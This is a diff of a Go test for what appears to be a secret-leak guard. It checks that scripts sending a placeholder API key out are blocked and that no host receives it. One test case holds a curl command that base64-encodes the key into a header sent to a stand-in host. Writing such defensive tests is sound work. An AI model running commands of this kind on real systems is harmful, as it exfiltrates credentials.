@@ -177,9 +177,15 @@ func TestSecrets(t *testing.T) {
 		"encoded, elsewhere": "curl -sS -H \"X-Key: $(printf sk-placeholder-0123456789abcdef | base64)\" http://plain.test/",
 	} {
 		out, _ := b.sh(script)
-		// A body is watched while it is sent: its harmless beginning may arrive.
-		if got := last(); got.Host != "" && name != "in the body" || strings.Contains(got.Body, "sk-") || !strings.Contains(out, `"reason":"placeholder"`) {
-			t.Errorf("%s: %s; the host got %+v", name, out, got)
+		if !strings.Contains(out, `"reason":"placeholder"`) {
+			t.Errorf("%s: %s", name, out)
+		}
+	}
+	// A body is watched while it is sent: its harmless beginning may arrive, and late.
+	hits, _, _ := w.taken()
+	for _, got := range hits {
+		if got.Method != http.MethodPost || strings.Contains(got.Body, "sk-") {
+			t.Errorf("a host got %+v", got)
 		}
 	}
 	// It is nowhere inside, and on no command line outside.
